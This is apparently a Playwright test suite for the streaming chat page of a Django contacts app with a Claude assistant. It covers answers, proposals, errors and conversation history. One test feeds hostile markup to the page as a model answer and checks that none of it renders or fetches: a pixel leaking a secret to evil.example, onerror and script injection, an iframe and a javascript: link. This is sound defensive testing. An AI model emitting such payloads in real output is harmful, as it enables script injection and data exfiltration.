"""Talking with the assistant, in Chromium: by a server that streams, as the product's own does."""

import datetime as dt
import select
import socket
import threading
import time
from contextlib import closing

import pytest
import uvicorn
from django.conf import settings
from django.contrib.staticfiles.handlers import ASGIStaticFilesHandler
from django.db import connections
from django.http import HttpResponse
from django.utils.module_loading import import_string
from time_machine import escape_hatch

from claude_ai.assistant import conversations
from claude_ai.models import Conversation, Message, Proposal
from claude_ai.tests.people import helene_of
from claude_ai.tests.stand_in import GOOD_KEY
from conftest import _is_complaint
from contacts.models import FollowUp, Profile

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

JOURNAL = """([selector, name]) => {
  const said = (window[name] = []);
  const look = () => {
    const text = document.querySelector(selector)?.textContent.trim();
    if (text && text !== said.at(-1)?.text) said.push({ text, at: Date.now() });
  };
  new MutationObserver(look).observe(document.body, { childList: true, subtree: true, characterData: true });
}"""

COUNT_CHANGES = """selector => {
  window.changes = 0;
  const seen = new MutationObserver((changes) => { window.changes += changes.length; });
  seen.observe(document.querySelector(selector), { childList: true, subtree: true, characterData: true });
}"""


# --- The server and the browser ---------------------------------------------------------------


class StaticFiles(ASGIStaticFilesHandler):
    """Read whole: where a browser leaves in the middle of a file, Django leaves the file open."""

    def serve(self, request):
        response = super().serve(request)
        if not response.streaming:
            return response
        with closing(response):
            return HttpResponse(b"".join(response), headers=response.headers)


@pytest.fixture(scope="module")
def asgi_url():
    """uvicorn on a free port. The WSGI server of `live_server` would hold a stream back to its end."""
    listening = socket.socket()
    listening.bind(("127.0.0.1", 0))
    config = uvicorn.Config(
        StaticFiles(import_string(settings.ASGI_APPLICATION)),
        lifespan="off",
        ws="none",
        log_level="warning",
        timeout_graceful_shutdown=2,
    )
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]}, daemon=True)
    thread.start()
    _until(lambda: server.started)
    yield f"http://127.0.0.1:{listening.getsockname()[1]}"
    server.should_exit = True
    thread.join(timeout=10)
    assert not thread.is_alive()


@pytest.fixture
def asgi_server(asgi_url, transactional_db, tmp_path):
    """Its threads each have a connection of their own.

    To SQLite in memory those would share one cache, in which a reader fails at once where a
    writer is at work: they get a copy in a file, which the test reads too.
    """
    memory = connections["default"]
    if memory.vendor != "sqlite" or not memory.is_in_memory_db():
        yield asgi_url
        return
    memory.ensure_connection()
    in_memory = connections.settings["default"]
    connections.settings["default"] = in_memory | {"NAME": str(tmp_path / "book.sqlite3")}
    copy = connections.create_connection("default")
    copy.ensure_connection()
    memory.connection.backup(copy.connection)
    connections["default"] = copy
    yield asgi_url
    copy.close()
    connections.settings["default"] = in_memory
    connections["default"] = memory


@pytest.fixture
def complaints():
    """What the browser said; a test that breaks the connection takes its own away."""
    return []


@pytest.fixture
def page(chromium, asgi_server, complaints, request):
    """As the page of all other tests, which see; options of the browser's context as the parameter."""
    options = {"locale": "en-GB", "viewport": {"width": 1200, "height": 900}} | getattr(request, "param", {})
    context = chromium.new_context(base_url=asgi_server, **options)
    page = context.new_page()
    page.set_default_timeout(30_000)
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.on("console", lambda message: complaints.append(message.text) if _is_complaint(message) else None)
    page.on(
        "request",
        lambda request: None if request.url.startswith(asgi_server) else complaints.append(f"asked {request.url}"),
    )
    yield page
    context.close()
    assert complaints == []


WITHOUT_SCRIPTS = pytest.mark.parametrize("page", [{"java_script_enabled": False}], indirect=True)
NARROW_OR_WIDE = pytest.mark.parametrize(
    "page", [{}, {"viewport": {"width": 360, "height": 740}}], ids=["wide", "narrow"], indirect=True
)
NARROW = pytest.mark.parametrize("page", [{"viewport": {"width": 360, "height": 740}}], indirect=True)


@pytest.fixture
def assistant(claude, server_key, page, sign_in, alice):
    """Alice, signed in, before an empty conversation; there is a key."""
    return _opened(page, sign_in, alice)


@pytest.fixture
def without_key(claude, page, sign_in, alice):
    return _opened(page, sign_in, alice)


def _opened(page, sign_in, user):
    sign_in(user)
    page.goto("/assistant")
    return Screen(page)


class Screen:
    """What a person does with the page, and sees on it."""

    def __init__(self, page):
        self.page = page
        self.question = page.get_by_label("Your question")
        self.conversation = page.locator("#conversation")
        self.last = page.locator(".message-assistant").last
        self.answer = self.last.locator(".message-text")
        self.stop = page.get_by_role("button", name="Stop")
        self.send = page.get_by_role("button", name="Send")
        self.status = page.locator("#assistant-status")
        self.cards = page.locator(".proposal")

    def ask(self, text="How is she?"):
        self.question.fill(text)
        self.question.press("Enter")

    def finished(self, *, answers=1):
        """Once there are so many answers, and none of them is still coming."""
        self.page.locator(".message-assistant").nth(answers - 1).wait_for()
        self.page.locator("#answer").wait_for(state="detached")
        self.page.locator("#send:enabled").wait_for()
        return self.last

    def ask_and_read(self, text="How is she?"):
        before = self.page.locator(".message-assistant").count()
        self.ask(text)
        self.finished(answers=before + 1)
        return self.answer.inner_text()

    def keep_journal(self, selector, name="journal"):
        """From now on: each text that is there, and when it came."""
        self.page.evaluate(JOURNAL, [selector, name])

    def journal(self, name="journal"):
        return self.page.evaluate("name => window[name]", name)


def _until(holds, *, seconds=30):
    deadline = time.monotonic() + seconds
    while not (found := holds()):
        assert time.monotonic() < deadline, "this did not come to hold in time"
        time.sleep(0.01)
    return found


class Wire:
    """Of the answer that was queued last: its socket at the stand-in, and when its first text left."""

    def __init__(self, claude):
        self.socket = self.sent_at = None
        answer = claude._queue[-1]

        def watched(request):
            self.socket = request.environ["werkzeug.socket"]
            response = answer(request)
            response.response = self._timed(response.response)
            return response

        claude._queue[-1] = watched

    def _timed(self, events):
        for event in events:
            if b"text_delta" in event and self.sent_at is None:
                self.sent_at = escape_hatch.time.time()  # the browser, whose clock is compared, does not travel
            yield event

    def is_closed(self):
        """By the other end."""
        if self.socket is None or self.socket.fileno() < 0:
            return self.socket is not None
        readable, _, _ = select.select([self.socket], [], [], 0)
        try:
            return bool(readable) and self.socket.recv(1, socket.MSG_PEEK) == b""
        except OSError:
            return True


def _is_within(card):
    """Whether whoever decided by keyboard still is on the card."""
    return card.evaluate("card => card.contains(document.activeElement)")


def _proposing(claude, helene):
    given = {"person": f"c{helene.pk}", "title": "Send the photos", "due_on": "2027-01-15"}
    claude.streams("", tools=[("propose_follow_up", given)])
    claude.streams("I propose to note it.")


# --- Asking, and the answer as it comes -------------------------------------------------------


def test_enter_sends_and_shift_enter_breaks_the_line(claude, assistant):
    claude.streams("Well.")
    assistant.question.press_sequentially("First")
    assistant.question.press("Shift+Enter")
    assistant.question.press_sequentially("second")
    assert assistant.question.input_value() == "First\nsecond"
    assert claude.requests == []
    assistant.question.press("Enter")
    assistant.finished()
    assert assistant.answer.inner_text() == "Well."
    assert claude.requests[0].json["messages"][-1]["content"].endswith("First\nsecond")
    assert assistant.question.input_value() == ""


def test_the_button_sends_too_and_an_empty_question_is_not_sent(claude, assistant):
    claude.streams("Well.")
    assistant.question.press("Enter")
    assert assistant.page.locator(".message-user").count() == 0
    assistant.question.fill("How is she?")
    assistant.send.click()
    assistant.finished()
    assert assistant.page.locator(".message-user .message-text").inner_text() == "How is she?"
    assert len(claude.requests) == 1


def test_the_first_text_is_there_while_the_rest_is_still_to_come(claude, assistant):
    claude.streams("She is well.", pieces=1, ends="held")
    assistant.ask()
    assistant.answer.get_by_text("She is well.").wait_for()
    assert assistant.page.locator("#answer[aria-busy]").count() == 1
    assert assistant.stop.is_visible()
    assert assistant.send.is_disabled()
    assert not Message.objects.filter(role="assistant").exists()
    claude.release()
    assistant.finished()
    assert assistant.answer.inner_text() == "She is well."
    assert assistant.stop.is_hidden()
    assert Message.objects.get(role="assistant").text == "She is well."


def test_all_text_that_came_is_there_while_the_rest_is_still_to_come(claude, assistant):
    claude.streams("She is well, and she asks after you.", pieces=4, ends="held")
    assistant.ask()
    assistant.answer.get_by_text("and she asks after you.").wait_for(timeout=15_000)


def test_the_first_text_reaches_the_page_at_once(claude, assistant, record_property):
    """50 ms is what is wanted; the bound is for a machine with other things to do."""
    claude.streams("Warm.", pieces=1)
    assistant.ask_and_read()
    delays = []
    for number in range(5):
        text = f"Answer {number} of those that are timed."
        claude.streams(text, pieces=1)
        wire = Wire(claude)
        assistant.keep_journal(".message-assistant:last-child .message-text", f"journal{number}")
        assistant.ask_and_read()
        came_at = next(entry["at"] for entry in assistant.journal(f"journal{number}") if entry["text"] == text)
        delays.append(came_at - wire.sent_at * 1000)
    record_property("first_text_ms", delays)
    print("first text on the page, ms after the API sent it:", [round(delay, 1) for delay in delays])  # noqa: T201
    assert sorted(delays)[len(delays) // 2] < 500


LONG = "\n\n".join(f"Paragraph {number} of what she said." for number in range(60))
BELOW = "() => Math.round(document.querySelector('.assistant-main').getBoundingClientRect().bottom - innerHeight)"


def test_a_reader_who_goes_up_is_not_pulled_back_and_is_followed_again_from_the_end(claude, assistant):
    claude.streams(LONG, pieces=1)
    assistant.ask_and_read()
    assistant.page.mouse.move(700, 300)
    assistant.page.mouse.wheel(0, -120)
    assistant.page.wait_for_function(f"() => ({BELOW})() > 10")
    # What an answer that is still coming does.
    grow = """() => {
      const form = document.getElementById("ask");
      form.dispatchEvent(new CustomEvent("htmx:before:sse:message"));
      document.querySelector(".message-assistant .message-text").append("more ".repeat(400));
      form.dispatchEvent(new CustomEvent("htmx:after:sse:message"));
    }"""
    before = assistant.page.evaluate("scrollY")
    assistant.page.evaluate(grow)
    assert assistant.page.evaluate("scrollY") == before
    assistant.page.mouse.wheel(0, 10_000)
    assistant.page.wait_for_function(f"() => ({BELOW})() < 1")
    assistant.page.evaluate(grow)
    assert assistant.page.evaluate(BELOW) <= 1


@NARROW_OR_WIDE
def test_who_asks_from_further_up_sees_the_question_and_its_answer(claude, assistant):
    claude.streams(LONG, pieces=1).streams("She is well.")
    assistant.ask_and_read()
    assistant.page.evaluate("scrollTo(0, 0)")
    assistant.page.wait_for_function("() => scrollY === 0")
    assistant.ask_and_read("And now?")
    assert assistant.page.evaluate(BELOW) <= 1
    form = assistant.page.locator("#ask").bounding_box()
    said = assistant.answer.bounding_box()
    assert said["y"] > 0
    assert said["y"] + said["height"] <= form["y"]


def test_a_long_conversation_opens_at_its_end(claude, assistant):
    claude.streams(LONG, pieces=1)
    assistant.ask_and_read()
    here = assistant.page.url
    assistant.page.goto("/assistant")
    assistant.page.goto(here)
    assistant.page.wait_for_function("() => scrollY > 300")
    assert assistant.page.evaluate(BELOW) <= 1


def test_markdown_is_shown_as_what_it_means(claude, assistant):
    claude.streams("She is **well**:\n\n- calm\n- rested\n\n1. one\n\n| a | b |\n|---|---|\n| 1 | 2 |\n")
    assistant.ask_and_read()
    assert assistant.answer.locator("strong").inner_text() == "well"
    assert assistant.answer.locator("ul li").all_inner_texts() == ["calm", "rested"]
    assert assistant.answer.locator("ol li").all_inner_texts() == ["one"]
    assert assistant.answer.locator("td").all_inner_texts() == ["1", "2"]


def test_nothing_that_claude_writes_fetches_or_runs_anything(claude, assistant):
    """The page itself fails the test for a request to another site."""
    claude.streams(
        "![pixel](https://evil.example/pixel.png?her=secret) "
        '<img src="https://evil.example/raw.png" onerror="document.title = \'run\'"> '
        "<script>document.title = 'run'</script>\n\n"
        '<iframe src="https://evil.example/"></iframe>\n\n'
        "[her page](https://evil.example/page) [trap](javascript:document.title='run')\n\n"
        '<hx-partial hx-target="#ask" hx-swap="outerHTML">gone</hx-partial> <div hx-get="/" hx-trigger="load">x</div>'
    )
    assistant.ask_and_read()
    assert assistant.conversation.locator("img, iframe, script, [onerror], [hx-get]").count() == 0
    link = assistant.answer.get_by_role("link", name="her page")
    assert link.get_attribute("rel") == "noopener noreferrer"
    assert "her page (evil.example)" in assistant.answer.inner_text()
    assert assistant.answer.locator("a[href^=javascript]").count() == 0
    assert assistant.page.title().startswith("Assistant")
    assert assistant.question.is_visible()


def test_an_answer_names_its_sources_and_they_open(claude, assistant, alice):
    helene = helene_of(alice)
    quote = FollowUp.objects.get(title="Send the quote")
    claude.streams("Let me see.", tools=[("read_contact", {"person": f"c{helene.pk}"})])
    claude.streams(f"You owe her the quote [f{quote.pk}]. She is in Lyon [c{helene.pk}, c999999]. She sings [i888888].")
    text = assistant.ask_and_read()
    assert "999999" not in text
    assert "888888" not in text
    assert "[" not in text
    chips = assistant.last.locator("> .sources a")
    assert chips.count() == 2
    assert chips.nth(0).inner_text().startswith("1. Send the quote")
    assert chips.nth(1).inner_text() == "2. Hélène Martin"
    cites = assistant.answer.locator("a.cite")
    assert [cite.get_attribute("href") for cite in cites.all()] == [
        quote.get_absolute_url(),
        helene.get_absolute_url(),
    ]
    assistant.last.get_by_text("records consulted").click()
    assistant.last.locator(".consulted a", has_text="Hélène Martin").first.wait_for()
    chips.nth(1).click()
    assistant.page.wait_for_url(f"**{helene.get_absolute_url()}")
    assistant.page.get_by_role("heading", name="Hélène Martin").wait_for()


def test_days_and_warnings_are_in_the_language_of_the_reader(claude, assistant, alice):
    """The server's own is French."""
    helene = helene_of(alice)
    claude.streams("", tools=[("read_contact", {"person": f"c{helene.pk}"})])
    claude.streams(f"She is well [c{helene.pk}].")
    assistant.ask_and_read()
    assistant.last.get_by_text("records consulted").click()
    assert "Lunch, 11/03/2026" in assistant.last.locator(".consulted a").all_inner_texts()
    assert "retires on Nov. 30, 2026" in assistant.last.inner_text()


def test_an_answer_is_copied_without_the_numbers_of_its_sources(claude, assistant, alice):
    helene = helene_of(alice)
    assistant.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    claude.streams("", tools=[("read_contact", {"person": f"c{helene.pk}"})])
    claude.streams(f"She is in **Lyon** [c{helene.pk}].")
    assert assistant.ask_and_read() == "She is in Lyon1."
    assistant.last.get_by_role("button", name="Copy the answer").click()
    assistant.last.locator("[data-copy-answer].is-done").wait_for()
    assert assistant.page.evaluate("navigator.clipboard.readText()") == "She is in Lyon."
    assert assistant.answer.inner_text() == "She is in Lyon1."


def test_the_page_says_that_the_book_is_being_read(claude, assistant, alice):
    helene = helene_of(alice)
    claude.streams("", tools=[("read_contact", {"person": f"c{helene.pk}"})])
    claude.hangs()
    assistant.ask()
    assistant.page.get_by_text("Looking in your book").wait_for()


def test_the_page_says_that_claude_writes_once_there_is_text(claude, assistant, alice):
    helene = helene_of(alice)
    status = assistant.page.locator("#answer-status")
    claude.streams("Let me see.", tools=[("read_contact", {"person": f"c{helene.pk}"})])
    claude.streams("She is well.", pieces=1, ends="held")
    assistant.keep_journal("#answer-status")
    assistant.ask()
    assistant.answer.get_by_text("She is well.").wait_for()
    assert status.inner_text().strip() == "Claude is writing"
    box = status.locator(".spinner").bounding_box()
    assert box["width"] == box["height"]
    claude.release()
    assistant.finished()
    said = [entry["text"] for entry in assistant.journal()]
    assert said == ["Claude is thinking", "Claude is writing", "Looking in your book", "Claude is writing"]


# --- Proposals --------------------------------------------------------------------------------


def test_a_proposal_is_changed_confirmed_and_taken_back(claude, assistant, alice):
    helene = helene_of(alice)
    _proposing(claude, helene)
    assistant.ask_and_read("I promised her the photos")
    card = assistant.cards.first
    card.get_by_role("link", name="Hélène Martin").wait_for()
    assert not FollowUp.objects.filter(title__contains="photos").exclude(owed_by="them").exists()
    card.locator("[name=title]").fill("Send the photos of the window")
    card.locator("[name=due_on]").fill("2027-01-20")
    card.get_by_role("button", name="Confirm").click()
    card.get_by_text("confirmed").wait_for()
    written = FollowUp.objects.get(title="Send the photos of the window")
    assert (written.contact, written.due_on, written.owed_by) == (helene, dt.date(2027, 1, 20), "me")
    assert card.get_by_role("button", name="Undo").evaluate("button => button === document.activeElement")
    card.get_by_role("button", name="Undo").click()
    card.get_by_text("undone").wait_for()
    assert _is_within(card)
    assert not FollowUp.objects.filter(pk=written.pk).exists()
    assert Proposal.objects.get().state == "undone"


def test_a_card_is_in_the_language_of_its_reader(claude, assistant, alice):
    _proposing(claude, helene_of(alice))
    assistant.ask_and_read("I promised her the photos")
    card = assistant.cards.first
    came = card.inner_text()
    assert card.locator("label").all_inner_texts() == ["What", "Due on", "Owed by"]
    assistant.page.reload()
    assert card.inner_text() == came


def test_a_proposal_is_refused(claude, assistant, alice):
    _proposing(claude, helene_of(alice))
    assistant.ask_and_read("I promised her the photos")
    assistant.cards.first.get_by_role("button", name="Refuse").click()
    assistant.cards.first.get_by_text("refused").wait_for()
    assert not FollowUp.objects.filter(title="Send the photos").exists()
    assert Proposal.objects.get().state == "refused"
    assert assistant.cards.first.get_by_role("button").count() == 0
    assert "Jan. 15, 2027" in assistant.cards.first.inner_text()
    assert _is_within(assistant.cards.first)


def test_a_proposal_with_a_wrong_value_says_so_and_writes_nothing(claude, assistant, alice):
    _proposing(claude, helene_of(alice))
    assistant.ask_and_read("I promised her the photos")
    assistant.cards.first.locator("[name=title]").fill("")
    assistant.cards.first.get_by_role("button", name="Confirm").click()
    assistant.cards.first.get_by_role("alert").wait_for()
    assert _is_within(assistant.cards.first)
    assert not FollowUp.objects.filter(title="Send the photos").exists()
    assistant.cards.first.locator("[name=title]").fill("Send them")
    assistant.cards.first.get_by_role("button", name="Confirm").click()
    assistant.cards.first.get_by_text("confirmed").wait_for()
    assert FollowUp.objects.filter(title="Send them").exists()


# --- What does not go well --------------------------------------------------------------------


def test_a_conversation_that_is_deleted_elsewhere_while_it_is_answered_says_so(claude, assistant):
    claude.streams("She is well", pieces=1, ends="held")
    assistant.ask()
    assistant.answer.get_by_text("She is well").wait_for()
    Conversation.objects.all().delete()
    claude.release()
    assistant.page.get_by_text("This conversation was deleted meanwhile.").wait_for()
    assistant.finished()
    assert assistant.page.url.endswith("/assistant")
    claude.streams("Here I am.")
    assert assistant.ask_and_read("Are you there?") == "Here I am."
    assert Conversation.objects.count() == 1


def test_stop_keeps_what_came_and_ends_the_call(claude, assistant):
    claude.streams("She is well", pieces=1, ends="held")
    wire = Wire(claude)
    assistant.ask()
    assistant.answer.get_by_text("She is well").wait_for()
    assistant.stop.click()
    assistant.page.locator("#send:enabled").wait_for()
    assert assistant.stop.is_hidden()
    assert assistant.answer.inner_text() == "She is well"
    assert assistant.status.inner_text() == "Stopped."
    _until(wire.is_closed)
    kept = _until(Message.objects.filter(role="assistant").first)
    assert (kept.text, kept.status) == ("She is well", "stopped")
    claude.streams("Here I am.")
    assert assistant.ask_and_read("Are you there?") == "Here I am."
    assert [sent["role"] for sent in claude.requests[1].json["messages"]] == ["user", "assistant", "user"]
    assert Conversation.objects.count() == 1
    assistant.page.locator(".assistant-menu summary").click()
    assistant.page.locator("#conversation-title").fill("Her health")
    assistant.page.get_by_role("button", name="Rename").click()
    assistant.page.get_by_role("heading", level=1, name="Her health").wait_for()


def test_leaving_the_page_ends_the_call_and_keeps_what_came(claude, assistant):
    claude.streams("She is well", pieces=1, ends="held")
    wire = Wire(claude)
    assistant.ask()
    assistant.answer.get_by_text("She is well").wait_for()
    here = assistant.page.url
    assistant.page.goto("/contacts/")
    _until(wire.is_closed)
    kept = _until(Message.objects.filter(role="assistant").first)
    assert (kept.text, kept.status) == ("She is well", "stopped")
    assistant.page.goto(here)
    assistant.last.get_by_text("Stopped here.").wait_for()
    claude.streams("She is well, I said.")
    assistant.last.get_by_role("button", name="Try again").click()
    assistant.page.get_by_text("I said.").wait_for()
    assistant.finished()


def test_stop_leaves_all_text_that_came_on_the_page(claude, assistant):
    claude.streams("She is well, and she asks after you", pieces=4, ends="held")
    assistant.ask()
    assistant.answer.get_by_text("She is").wait_for()
    time.sleep(0.5)
    assistant.stop.click()
    assistant.page.locator("#send:enabled").wait_for()
    kept = _until(Message.objects.filter(role="assistant").first)
    assert kept.text == "She is well, and she asks after you"
    assert assistant.answer.inner_text() == kept.text


def test_a_stopped_answer_can_be_copied_and_asked_for_again_at_once(claude, assistant):
    claude.streams("She is well", pieces=1, ends="held")
    assistant.ask()
    assistant.answer.get_by_text("She is well").wait_for()
    assert assistant.last.get_by_role("button").count() == 0
    assistant.stop.click()
    assistant.last.get_by_role("button", name="Copy the answer").wait_for()
    claude.streams("She is well, I said.")
    assistant.last.get_by_role("button", name="Try again").click()
    assistant.page.get_by_text("I said.").wait_for()
    assistant.finished(answers=2)
    assert claude.requests[-1].json["messages"][-1]["content"].endswith("How is she?")


def test_a_question_that_nobody_answered_can_be_asked_again(claude, assistant, alice):
    """As after a server that died, or on a page that is loaded while its answer is on the way."""
    conversation = Conversation.objects.create(user=alice, title="Hélène")
    Message.objects.create(conversation=conversation, role="user", text="How is she?")
    assistant.page.goto(f"/assistant?conversation={conversation.pk}")
    assistant.last.get_by_text("Not whole").wait_for()
    claude.streams("She is well.")
    assistant.last.get_by_role("button", name="Try again").click()
    assistant.page.get_by_text("She is well.").wait_for()
    assistant.finished()
    assert claude.requests[-1].json["messages"][-1]["content"].endswith("How is she?")


def test_what_is_typed_while_an_answer_comes_is_kept(claude, assistant):
    claude.streams("She is well", pieces=1, ends="held")
    assistant.ask()
    assistant.answer.get_by_text("She is well").wait_for()
    assistant.question.press_sequentially("And her children?")
    assistant.question.press("Enter")
    claude.release()
    assistant.finished()
    assert assistant.question.input_value() == "And her children?"
    assert len(claude.requests) == 1


def test_asking_again_keeps_what_is_typed(claude, assistant):
    claude.streams("She is", pieces=1, ends="error")
    assistant.ask_and_read()
    assistant.question.fill("And her children?")
    claude.streams("She is well.")
    assistant.last.get_by_role("button", name="Try again").click()
    assistant.page.get_by_text("She is well.").wait_for()
    assistant.finished()
    assert claude.requests[-1].json["messages"][-1]["content"].endswith("How is she?")
    assert assistant.question.input_value() == "And her children?"


def test_asking_again_asks_what_that_answer_was_for(claude, assistant):
    claude.streams("She is", pieces=1, ends="error")
    assistant.ask_and_read("How is she?")
    claude.streams("In Lyon.")
    assistant.ask_and_read("Where does she live?")
    claude.streams("She is well.")
    assistant.page.get_by_role("button", name="Try again").click()
    assistant.page.get_by_text("She is well.").wait_for()
    assistant.finished()
    assert claude.requests[-1].json["messages"][-1]["content"].endswith("How is she?")


def test_a_server_that_is_not_there_leaves_the_question(claude, assistant, complaints):
    assistant.page.context.set_offline(True)
    assistant.ask()
    assistant.page.locator("#failure").wait_for()
    assert assistant.question.input_value() == "How is she?"
    assert assistant.send.is_enabled()
    assistant.page.context.set_offline(False)
    claude.streams("She is well.")
    assistant.question.press("Enter")
    assistant.answer.get_by_text("She is well.").wait_for()
    assistant.finished()
    assert assistant.page.locator("#failure").is_hidden()
    assert all("Failed to fetch" in complaint for complaint in complaints)
    complaints.clear()


def test_a_connection_that_breaks_midway_is_said_and_the_text_stays(claude, assistant, complaints, monkeypatch):
    """The server fails just before the end, so that its answer is cut off."""
    keep, is_read = conversations.keep, threading.Event()

    def fail(*args, **kwargs):
        # What was sent in the same instant as the connection breaks may go down with it.
        is_read.wait(10)
        raise OSError

    monkeypatch.setattr(conversations, "keep", fail)
    claude.streams("She is well", pieces=1)
    assistant.ask()
    assistant.page.get_by_text("She is well").wait_for()
    is_read.set()
    assistant.page.locator("#send:enabled").wait_for()
    _until(assistant.status.inner_text)
    assert assistant.answer.inner_text() == "She is well"
    assert assistant.status.inner_text().startswith("The connection broke.")
    assistant.last.get_by_text("The connection broke.").wait_for()
    assert assistant.page.locator("[aria-busy]").count() == 0
    monkeypatch.setattr(conversations, "keep", keep)
    claude.streams("Here I am.")
    assert assistant.ask_and_read("Are you there?") == "Here I am."
    assert all("network error" in complaint for complaint in complaints)
    complaints.clear()


def test_stop_works_before_the_first_text(claude, assistant):
    claude.hangs()
    assistant.ask()
    _until(lambda: claude.requests)
    assistant.stop.click()
    assistant.page.locator("#send:enabled").wait_for()
    kept = _until(Message.objects.filter(role="assistant").first)
    assert (kept.text, kept.status) == ("", "stopped")
    claude.streams("Here I am.")
    assert assistant.ask_and_read("Are you there?") == "Here I am."


@pytest.mark.parametrize("ends", ["cut", "error", "silent"])
def test_an_answer_that_breaks_off_is_kept_and_can_be_asked_for_again(claude, assistant, ends):
    claude.streams("She is well, and", pieces=1, ends=ends)
    assert assistant.ask_and_read() == "She is well, and"
    alert = assistant.last.get_by_role("alert").inner_text()
    assert ("overloaded" if ends == "error" else "broke off") in alert
    assert assistant.last.get_by_role("button", name="Try again").is_visible()
    assert Message.objects.get(role="assistant").status == "failed"
    claude.streams("She is well, and she says hello.")
    assistant.last.get_by_role("button", name="Try again").click()
    assistant.page.get_by_text("she says hello").wait_for()
    assistant.finished()
    assert claude.requests[-1].json["messages"][-1]["content"].endswith("How is she?")


def test_without_a_key_the_question_stays_and_the_book_is_searched(claude, without_key, alice):
    helene = helene_of(alice)
    without_key.page.locator("#conversation").get_by_role("link", name="Settings").wait_for()
    without_key.ask("What did Martin tell me?")
    problem = without_key.page.locator("#ask-problem")
    problem.get_by_text("There is no API key for Claude yet: paste one in the settings.").wait_for()
    assert problem.get_by_role("link", name="Settings").get_attribute("href") == "/settings#claude"
    problem.get_by_text("What the search finds for it:").wait_for()
    assert without_key.question.input_value() == "What did Martin tell me?"
    assert without_key.send.is_enabled()
    assert claude.requests == []
    problem.get_by_role("link", name="Hélène Martin").click()
    without_key.page.wait_for_url(f"**{helene.get_absolute_url()}")


def test_the_problem_goes_once_an_answer_comes(claude, without_key, settings):
    without_key.ask()
    problem = without_key.page.locator("#ask-problem")
    problem.get_by_role("alert").wait_for()
    settings.CLAUDE_API_KEY = GOOD_KEY
    claude.streams("She is well.")
    without_key.question.press("Enter")
    without_key.answer.get_by_text("She is well.").wait_for()
    without_key.finished()
    assert problem.inner_text() == ""


def test_a_question_that_is_too_long_is_refused_and_kept(claude, assistant):
    text = "word " * 5_000
    assistant.ask(text)
    assistant.page.locator("#ask-problem").get_by_text("20,000 characters at most").wait_for()
    assert assistant.question.input_value() == text
    assert len(text) == 25_000
    assert claude.requests == []
    assert not Conversation.objects.exists()
    assert assistant.send.is_enabled()


# --- The conversation -------------------------------------------------------------------------


def test_arrow_up_brings_the_last_question_back(claude, assistant):
    claude.streams("Well.")
    assistant.ask_and_read("What about her job?")
    assistant.ask_and_read("And her children?\nHow old are they?")
    assistant.question.press("ArrowUp")
    assert assistant.question.input_value() == "And her children?\nHow old are they?"
    assistant.page.reload()
    assistant.question.press("ArrowUp")
    assert assistant.question.input_value() == "And her children?\nHow old are they?"
    assistant.question.fill("Something else")
    assistant.question.press("ArrowUp")
    assert assistant.question.input_value() == "Something else"


def test_the_last_question_is_changed_and_its_answer_replaced(claude, assistant):
    claude.streams("Well.").streams("She has two.").streams("She has a dog.")
    assistant.ask_and_read("What about her job?")
    assistant.ask_and_read("And her children?")
    edit = assistant.page.get_by_role("button", name="Change this question")
    assert edit.locator("visible=true").count() == 1
    edit.locator("visible=true").click()
    assert assistant.question.input_value() == "And her children?"
    assistant.page.get_by_text("its answer will be replaced").wait_for()
    assistant.question.fill("And her pets?")
    assistant.question.press("Enter")
    assistant.page.get_by_text("She has a dog.").wait_for()
    assistant.page.locator("#send:enabled").wait_for()
    shown = assistant.conversation.inner_text()
    assert "children" not in shown
    assert "She has two." not in shown
    assert not assistant.page.get_by_text("its answer will be replaced").is_visible()
    assistant.page.reload()
    assert "children" not in assistant.conversation.inner_text()
    assert "And her pets?" in assistant.conversation.inner_text()


def test_a_question_that_is_brought_back_can_be_left(claude, assistant):
    claude.streams("Well.").streams("Anew.")
    assistant.ask_and_read("What about her job?")
    assistant.question.press("ArrowUp")
    assistant.page.get_by_role("button", name="Leave it").click()
    assert assistant.question.input_value() == ""
    assistant.ask_and_read("And her pets?")
    assert "What about her job?" in assistant.conversation.inner_text()


def test_a_reload_shows_the_same_conversation(claude, assistant):
    claude.streams("I will remember it.")
    assistant.ask_and_read("I promised her the photos")
    claude.streams("She is **well** [c999999].")
    assistant.ask_and_read("How is she?")
    before = assistant.conversation.inner_text()
    conversation = Conversation.objects.get()
    assert assistant.page.url.endswith(f"/assistant?conversation={conversation.pk}")
    assistant.page.reload()
    assert assistant.conversation.inner_text() == before
    assert assistant.page.get_by_role("heading", level=1).inner_text() == "I promised her the photos"
    claude.streams("Yes.")
    assistant.ask_and_read("Are you sure?")
    assert Conversation.objects.count() == 1
    assert len(claude.requests[-1].json["messages"]) == 5


def test_many_conversations_are_no_longer_than_the_window(claude, assistant, alice):
    for number in range(50):
        Conversation.objects.create(user=alice, title=f"Conversation {number}")
    # Whose words are longer.
    Profile.objects.filter(user=alice).update(language="fr")
    assistant.page.reload()
    box = assistant.page.locator(".assistant-list").bounding_box()
    assert box["y"] + box["height"] <= 900
    new = assistant.page.get_by_role("link", name="Nouvelle conversation")
    assert new.evaluate("link => link.scrollHeight <= link.clientHeight && link.scrollWidth <= link.clientWidth")
    assistant.page.get_by_role("link", name="Conversation 0", exact=True).click()
    assistant.page.get_by_role("heading", level=1, name="Conversation 0").wait_for()


def test_conversations_are_renamed_searched_and_deleted(claude, assistant):
    page = assistant.page
    claude.streams("She likes orchids.")
    assistant.ask_and_read("What does she like?")
    page.locator("#conversations").get_by_role("link", name="What does she like?").wait_for()
    page.get_by_role("link", name="New conversation").click()
    page.wait_for_url("**/assistant")
    claude.streams("In Lyon.")
    assistant.ask_and_read("Where does she live?")
    page.get_by_role("heading", level=1, name="Where does she live?").wait_for()
    page.locator(".assistant-menu summary").click()
    page.locator("#conversation-title").fill("Her home")
    page.get_by_role("button", name="Rename").click()
    page.get_by_role("heading", level=1, name="Her home").wait_for()
    assert page.locator("#conversations a").all_inner_texts() == ["Her home", "What does she like?"]
    search = page.get_by_label("Search the conversations")
    search.fill("orchids")
    search.press("Enter")
    page.wait_for_url("**q=orchids*")
    assert page.locator("#conversations a").all_inner_texts() == ["What does she like?"]
    page.locator("#conversations a").click()
    page.get_by_text("She likes orchids.").wait_for()
    page.locator(".assistant-menu summary").click()
    page.get_by_role("button", name="Delete this conversation").click()
    page.wait_for_url("**/assistant")
    assert page.locator("#conversations a").all_inner_texts() == ["Her home"]
    assert Conversation.objects.get().title == "Her home"


